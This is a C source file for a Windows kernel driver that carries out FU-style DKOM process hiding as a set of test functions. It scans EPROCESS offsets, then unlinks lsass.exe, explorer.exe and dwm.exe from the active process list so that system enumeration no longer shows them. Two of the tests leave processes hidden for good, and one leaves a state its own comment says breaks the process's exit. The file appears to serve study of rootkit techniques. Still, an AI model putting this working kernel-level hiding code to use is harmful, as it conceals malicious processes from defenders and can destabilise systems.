/*
 * dkomproc.sys — FU-style process hiding, step by step. Each Test* export returns its number of
 * failed checks. The hiding tests leave the kernel as a rootkit would: TestHideAndRestore puts the
 * process back; TestHideFu leaves explorer.exe unlinked with its own links naming its old
 * neighbours (FU's unlink: on Windows 10 its exit fails RemoveEntryList's safe-unlink check);
 * TestHideSelfLinked leaves dwm.exe unlinked and pointing at itself (hidden, exits cleanly).
 */
#include "dkom.h"

static DKOM_OFFSETS g_offsets;

/* The offsets, as DriverEntry found them (in the System process, as FU's DriverEntry does). */
static const DKOM_OFFSETS *Offsets(void)
{
    return &g_offsets;
}

ULONG TestFindOffsets(void)
{
    ULONG failures = 0;
    const DKOM_OFFSETS *o = Offsets();
    PEPROCESS system = PsInitialSystemProcess;
    CHECK(o->ImageFileName != 0 && o->UniqueProcessId != 0);
    if (o->ImageFileName == 0 || o->UniqueProcessId == 0) return failures;
    CHECK(PsGetCurrentProcess() == system);
    /* The scanned offsets agree with the documented accessors. */
    CHECK((PUCHAR)PsGetProcessImageFileName(system) == (PUCHAR)system + o->ImageFileName);
    CHECK(DKOM_PID(o, system) == PsGetProcessId(system));
    CHECK(DKOM_PID(o, system) == (HANDLE)4);
    /* ActiveProcessLinks right after UniqueProcessId, a well-formed list entry. */
    CHECK(o->ActiveProcessLinks == o->UniqueProcessId + sizeof(PVOID));
    CHECK(DKOM_LINKS(o, system)->Flink->Blink == DKOM_LINKS(o, system));
    CHECK(DKOM_LINKS(o, system)->Blink->Flink == DKOM_LINKS(o, system));
    return failures;
}

/* Rootkits pick or check their offsets by build: NtBuildNumber agrees with RtlGetVersion. */
ULONG TestBuildNumber(void)
{
    ULONG failures = 0;
    RTL_OSVERSIONINFOW v;
    RtlZeroMemory(&v, sizeof(v));
    v.dwOSVersionInfoSize = sizeof(v);
    CHECK(NT_SUCCESS(RtlGetVersion(&v)));
    CHECK(v.dwMajorVersion == 10);
    CHECK((NtBuildNumber & 0xFFFF) == v.dwBuildNumber);
    CHECK((NtBuildNumber & 0xF0000000) == 0xF0000000);
    return failures;
}

ULONG TestWalkList(void)
{
    ULONG failures = 0;
    const DKOM_OFFSETS *o = Offsets();
    PLIST_ENTRY head, e;
    ULONG n = 0;
    PEPROCESS explorer;
    if (o->ActiveProcessLinks == 0) return 1;
    head = DKOM_LINKS(o, PsInitialSystemProcess)->Blink;
    /* System is first; every entry is a process the Ps accessors and the CID table agree on. */
    CHECK(DKOM_PROCESS(o, head->Flink) == PsInitialSystemProcess);
    for (e = head->Flink; e != head && n < 4096; e = e->Flink, n++) {
        PEPROCESS p = DKOM_PROCESS(o, e), looked = NULL;
        CHECK(e->Flink->Blink == e);
        CHECK(DKOM_PID(o, p) == PsGetProcessId(p));
        CHECK(strcmp(DKOM_NAME(o, p), (const char *)PsGetProcessImageFileName(p)) == 0);
        CHECK(NT_SUCCESS(PsLookupProcessByProcessId(DKOM_PID(o, p), &looked)) && looked == p);
        if (looked) ObDereferenceObject(looked);
        CHECK(DkomListedBySystemInformation(DKOM_PID(o, p)));
    }
    CHECK(head->Blink->Flink == head);
    CHECK(n >= 10);
    explorer = DkomFindByName(o, "explorer.exe");
    CHECK(explorer != NULL);
    if (explorer) CHECK(strcmp((const char *)PsGetProcessImageFileName(explorer), "explorer.exe") == 0);
    return failures;
}

ULONG TestHideAndRestore(void)
{
    ULONG failures = 0;
    const DKOM_OFFSETS *o = Offsets();
    PEPROCESS p, before, looked = NULL;
    HANDLE pid;
    ULONG count;
    if (o->ActiveProcessLinks == 0) return 1;
    p = DkomFindByName(o, "lsass.exe");
    CHECK(p != NULL);
    if (p == NULL) return failures;
    pid = DKOM_PID(o, p);
    count = DkomCount(o);
    before = DKOM_PROCESS(o, DKOM_LINKS(o, p)->Blink);
    DkomUnlink(o, p, TRUE);
    /* Hidden from list walkers and from SystemProcessInformation (Windows enumerates along the list)... */
    CHECK(DkomFindByName(o, "lsass.exe") == NULL);
    CHECK(DkomCount(o) == count - 1);
    CHECK(!DkomListedBySystemInformation(pid));
    /* ...but still in the CID table. */
    CHECK(NT_SUCCESS(PsLookupProcessByProcessId(pid, &looked)) && looked == p);
    if (looked) ObDereferenceObject(looked);
    DkomRelinkAfter(o, p, before);
    CHECK(DkomFindByName(o, "lsass.exe") == p);
    CHECK(DkomCount(o) == count);
    CHECK(DkomListedBySystemInformation(pid));
    return failures;
}

ULONG TestHideFu(void)
{
    ULONG failures = 0;
    const DKOM_OFFSETS *o = Offsets();
    PEPROCESS p;
    if (o->ActiveProcessLinks == 0) return 1;
    p = DkomFindByName(o, "explorer.exe");
    CHECK(p != NULL);
    if (p == NULL) return failures;
    DkomUnlink(o, p, FALSE);
    CHECK(DkomFindByName(o, "explorer.exe") == NULL);
    return failures;
}

ULONG TestHideSelfLinked(void)
{
    ULONG failures = 0;
    const DKOM_OFFSETS *o = Offsets();
    PEPROCESS p;
    if (o->ActiveProcessLinks == 0) return 1;
    p = DkomFindByName(o, "dwm.exe");
    CHECK(p != NULL);
    if (p == NULL) return failures;
    DkomUnlink(o, p, TRUE);
    CHECK(DkomFindByName(o, "dwm.exe") == NULL);
    CHECK(DKOM_LINKS(o, p)->Flink == DKOM_LINKS(o, p));
    return failures;
}

static VOID Unload(PDRIVER_OBJECT DriverObject)
{
    UNREFERENCED_PARAMETER(DriverObject);
}

DRIVER_INITIALIZE DriverEntry;
NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    UNREFERENCED_PARAMETER(RegistryPath);
    DriverObject->DriverUnload = Unload;
    if (!DkomFindOffsets(&g_offsets)) DbgPrint("FAIL %s:%d: EPROCESS offsets not found by scanning\n", __FILE__, __LINE__);
    return STATUS_SUCCESS;
}

NTSTATUS NTAPI DllInitialize(PUNICODE_STRING RegistryPath)
{
    UNREFERENCED_PARAMETER(RegistryPath);
    return STATUS_SUCCESS;
}

NTSTATUS NTAPI DllUnload(void)
{
    return STATUS_SUCCESS;
}
